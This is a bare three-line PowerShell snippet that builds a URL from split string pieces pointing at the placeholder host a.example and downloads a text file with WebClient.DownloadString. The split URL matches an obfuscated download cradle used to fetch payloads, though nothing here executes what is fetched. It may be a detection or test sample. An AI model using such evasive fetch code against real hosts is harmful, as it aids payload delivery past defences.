$a,$b,$c='http://','a.example','/p/x.txt'
$wc = New-Object System.Net.WebClient
$wc.DownloadString(($a+$b+$c))
